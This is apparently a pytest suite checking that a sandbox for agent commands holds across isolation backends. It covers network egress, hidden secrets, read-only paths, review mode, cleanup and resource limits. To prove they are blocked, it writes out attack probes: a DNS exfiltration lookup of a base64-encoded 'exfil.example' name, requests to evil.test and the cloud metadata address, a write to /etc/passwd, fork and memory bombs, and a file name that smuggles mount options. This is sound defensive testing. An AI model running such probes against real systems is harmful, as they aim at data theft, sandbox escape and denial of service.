"""One policy, any isolation: what holds in every backend."""

from __future__ import annotations

import signal
import socket
import uuid
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.backends.conftest import BANNER, CONTAINERS, SECRET, write_policy
from tests.conftest import CLIENTS
from tests.system.conftest import FORKS, attack_outside
from tests.system.test_end import processes_with, ready, told, until

if TYPE_CHECKING:
    from tests.backends.conftest import Box

pytestmark = pytest.mark.timeout(300)

METADATA = "169.254.169.254"

FETCH = """
fetch(process.argv[2]).then((answer) => answer.text()).then(console.log, (error) => console.log("refused"));
"""
"""Node's own fetch; without variables it has never heard of a proxy."""

TUNNEL = """
import socket
for name in ("c2VjcmV0.exfil.example", "api.test", "ssh.test"):
    try:
        print(name, len(socket.getaddrinfo(name, 22, proto=socket.IPPROTO_TCP)) > 0)
    except OSError:
        print(name, False)
"""

SSH = """
import socket, sys
try:
    with socket.create_connection((sys.argv[1], 22), 20) as server:
        print(server.recv(100))
except OSError as error:
    print("refused", error)
"""


def left_behind(box: Box, marker: str) -> list[str]:
    """Processes of the sandbox, its containers, and mounts of the caller's."""
    found = [f"process {pid}" for pid in processes_with(marker)]
    if box.name in CONTAINERS:
        found += box.containers()
    if box.name == "docker-gvisor":
        found += [f"gVisor {pid}" for pid in processes_with(f"runsc-sandbox\0--root={box.daemon}/")]
    found += [line for line in Path("/proc/self/mountinfo").read_text().splitlines() if str(box.root) in line]
    return found


class TestNetwork:
    def test_an_allowed_request_gets_its_credential(self, box, site):
        done = box.inside("curl -sS https://api.test/v1; echo; echo $SERVICE_TOKEN")
        assert done.stdout.startswith("welcome"), done.stderr
        assert SECRET not in done.stdout + done.stderr
        assert len(site.asked) == 1

    def test_without_the_credential_the_server_turns_it_away(self, box, site):
        box.environment["SERVICE_TOKEN"] = "sk-ant-test-another-9876543210"
        assert "who are you" in box.inside("curl -sS https://api.test/v1").stdout
        assert not site.asked

    def test_another_host_is_refused(self, box, site):
        assert "403" in box.inside("curl -sS https://evil.test/").stderr
        assert not site.asked

    @pytest.mark.needs("node24")
    def test_fetch_of_node_that_knows_no_proxy(self, box, site):
        box.environment["PATH"] = f"{CLIENTS}:/usr/bin:/bin"
        box.file(box.workspace / "fetch.js", FETCH, 0o644)
        node = 'env -i PATH="$PATH" NODE_EXTRA_CA_CERTS="$NODE_EXTRA_CA_CERTS" node fetch.js'
        assert box.inside(f"{node} https://api.test/v1").stdout.strip() == "welcome"
        assert box.inside(f"{node} https://evil.test/").stdout.strip() == "refused"

    @pytest.mark.parametrize(
        ("family", "address"),
        [("AF_INET", "192.0.2.1"), ("AF_INET", METADATA), ("AF_INET6", "2001:db8::1"), ("AF_INET6", "fd00:ec2::254")],
    )
    def test_an_address_leads_to_the_gateway_alone(self, box, family, address):
        assert box.attack("speak", family, address, 80).startswith("CLOSED")

    def test_the_hosts_loopback_is_another_one(self, box):
        with socket.create_server(("127.0.0.1", 0)) as server:
            port = server.getsockname()[1]
            assert attack_outside("connect", "AF_INET", "127.0.0.1", port) == "OPEN"
            assert box.attack("connect", "AF_INET", "127.0.0.1", port).startswith("CLOSED")

    def test_datagrams_go_nowhere(self, box):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
            server.bind(("127.0.0.1", 0))
            assert box.attack("udp", "127.0.0.1", server.getsockname()[1]).startswith("CLOSED")
            server.setblocking(False)
            with pytest.raises(BlockingIOError):
                server.recv(16)
        assert box.attack("udp", "192.0.2.1", 443).startswith("CLOSED")

    def test_names_carry_nothing_out(self, box, site):
        box.file(box.workspace / "tunnel.py", TUNNEL, 0o644)
        said = box.inside("/usr/bin/python3 tunnel.py").stdout.splitlines()
        assert said == ["c2VjcmV0.exfil.example False", "api.test True", "ssh.test True"]

    def test_ssh_by_name(self, box, site):
        box.file(box.workspace / "ssh.py", SSH, 0o644)
        assert box.inside("/usr/bin/python3 ssh.py ssh.test").stdout.strip() == repr(BANNER)
        assert repr(BANNER) not in box.inside("/usr/bin/python3 ssh.py evil.test").stdout
        assert repr(BANNER) not in box.inside("/usr/bin/python3 ssh.py 192.0.2.22").stdout

    @pytest.mark.parametrize("words", [("family", "AF_VSOCK"), ("family", "AF_PACKET", "SOCK_RAW"), ("netlink", 12)])
    def test_sockets_that_ignore_the_cage(self, box, words):
        assert box.attack(*words).startswith("CLOSED")

    def test_unix_sockets_of_the_host(self, box):
        name, path = f"outward-test-{uuid.uuid4()}", box.workspace / "host.sock"
        with socket.socket(socket.AF_UNIX) as abstract, socket.socket(socket.AF_UNIX) as file:
            abstract.bind("\0" + name)
            abstract.listen()
            file.bind(str(path))
            box.own(path)
            file.listen()
            assert attack_outside("abstract", name) == attack_outside("connect", "AF_UNIX", path) == "OPEN"
            assert box.attack("abstract", name).startswith("CLOSED")
            assert box.attack("connect", "AF_UNIX", path).startswith("CLOSED")


class TestFiles:
    def test_the_workspace_belongs_to_the_caller(self, box):
        box.inside("echo made > made; echo $HOME > there; touch $HOME/kept")
        made = box.workspace / "made"
        assert made.read_text() == "made\n"
        assert made.stat().st_uid == box.workspace.stat().st_uid
        assert (box.workspace / "there").read_text() == "/home/agent\n"
        assert box.inside("cd; echo *").stdout.split() == ["kept"]  # old versions of gVisor do not serve ls

    def test_secrets_of_the_workspace_are_hidden(self, box):
        box.file(box.workspace / ".env", f"KEY={SECRET}")
        box.file(box.workspace / "notes", SECRET)
        said = box.inside("cat .env; cat notes; cat .env | wc -c").stdout
        assert said == f"{SECRET}0\n"

    def test_what_is_read_only(self, box):
        assert box.inside("touch /usr/x || touch /x || touch /etc/x || echo x >/etc/passwd").returncode != 0
        assert box.inside("touch x", "--mode", "read").returncode != 0
        assert box.inside("touch /tmp/x && touch /var/tmp/x && touch /run/x").returncode == 0

    def test_nobody_else_is_there(self, box):
        assert len(box.inside("echo /proc/[0-9]*").stdout.split()) < 10
        values = dict(
            line.split(":\t") for line in box.inside("cat /proc/self/status").stdout.splitlines() if ":\t" in line
        )
        assert values["CapEff"] == "0" * 16
        if not box.kind.own_kernel:
            assert (values["CapBnd"], values["NoNewPrivs"], values["Seccomp"]) == ("0" * 16, "1", "2")


class TestReview:
    def test_changes_are_kept_and_applied(self, box):
        box.file(box.workspace / "before", "old\n", 0o644)
        box.file(box.workspace / "gone" / "inner", "old\n", 0o644)
        box.file(box.workspace / ".env", f"KEY={SECRET}")
        line = "echo new >>before; rm -r gone; mkdir made; echo made >made/inner; ls -A; cat .env"
        done = box.inside(line, "--mode", "review")
        assert (done.stdout.split(), SECRET in done.stderr) == (["before", "made"], False)
        assert (box.workspace / "before").read_text() == "old\n"
        assert sorted(path.name for path in box.workspace.iterdir()) == [".env", "before", "gone"]
        assert "+new" in box.outward("review").stdout
        applied = box.outward("apply")
        assert applied.returncode == 0, applied.stderr
        assert sorted(path.name for path in box.workspace.iterdir()) == [".env", "before", "made"]
        assert (box.workspace / "before").read_text() == "old\nnew\n"
        assert (box.workspace / "made" / "inner").stat().st_uid == box.workspace.stat().st_uid
        assert not list((box.state / "layers").iterdir())

    def test_a_killed_one_loses_nothing(self, box):
        box.file(box.workspace / "before", "old\n", 0o644)
        process = box.start("run", "--mode", "review", "--", "sh", "-c", "echo new >before; echo ready; sleep 1000")
        ready(process)
        process.kill()
        process.wait()
        assert (box.workspace / "before").read_text() == "old\n"
        until(lambda: "+new" in box.outward("review").stdout)  # what holds the session ends a moment later
        assert box.outward("discard").returncode == 0
        assert not list((box.state / "layers").iterdir())


class TestEnd:
    def test_the_exit_status(self, box):
        assert box.inside("exit 7").returncode == 7
        assert box.inside("kill -9 $$").returncode == 137
        assert box.inside("cat", stdin="said\n").stdout == "said\n"

    def test_signals_and_time(self, box):
        assert told(box, "SIGTERM") == ("told SIGTERM\n", 9)
        assert box.inside("sleep 1000", "--timeout", "2s").returncode == 124

    @pytest.mark.parametrize("number", [0, signal.SIGTERM, signal.SIGKILL])
    def test_nothing_is_left(self, box, number):
        marker = f"marker-{uuid.uuid4()}"
        line = f"setsid -f sh -c 'sleep 1000; : {marker}'; echo ready; sleep {1000 if number else 0}; : {marker}"
        process = box.start("run", "--quiet", "--", "sh", "-c", line)
        ready(process)
        assert processes_with(marker)
        if number:
            process.send_signal(number)
        process.wait(timeout=60)
        until(lambda: left_behind(box, marker) == [])


class TestLimits:
    """Where they cannot be held, `--strict` starts nothing."""

    def test_a_fork_bomb(self, box):
        box.file(box.workspace / "forks.py", FORKS, 0o644)
        assert int(box.inside("/usr/bin/python3 forks.py").stdout) == 400
        write_policy(box, "sandbox: {limits: {pids: 50}}\n")
        refused = box.inside("/usr/bin/python3 forks.py", "--strict")
        if refused.returncode == 125:
            assert "limit on pids" in refused.stderr
        else:
            assert int(refused.stdout) < 50

    def test_a_memory_bomb(self, box):
        line = "/usr/bin/python3 -c 'x = bytes([1]) * (300 << 20); print(\"kept\")'"
        assert box.inside(line).stdout == "kept\n"
        write_policy(box, "sandbox: {limits: {memory: 100M}}\n")
        refused = box.inside(line, "--strict")
        if refused.returncode == 125:
            assert "limit on memory" in refused.stderr
        else:
            assert refused.stdout == ""
            assert refused.returncode != 0


def test_what_would_be_done_is_said(box):
    said = box.outward("run", "--dry-run", "--", "true").stdout
    assert f"read-write {box.workspace}" in said
    assert not list(box.workspace.iterdir())


@pytest.mark.parametrize("mode", ["write", "review"])
def test_a_name_that_would_be_an_option_is_none(box, mode):
    odd = box.workspace / 'a,upperdir=b:c"d e\\f'
    box.file(odd / "file", "odd\n", 0o644)
    box.file(odd / "x,readonly" / ".env", f"KEY={SECRET}")
    done = box.inside("cat file; cat x*/.env; echo new >file", "--mode", mode, "--workspace", str(odd))
    assert (done.stdout, done.returncode) == ("odd\n", 0), done.stderr
    assert (odd / "file").read_text() == ("new\n" if mode == "write" else "odd\n")
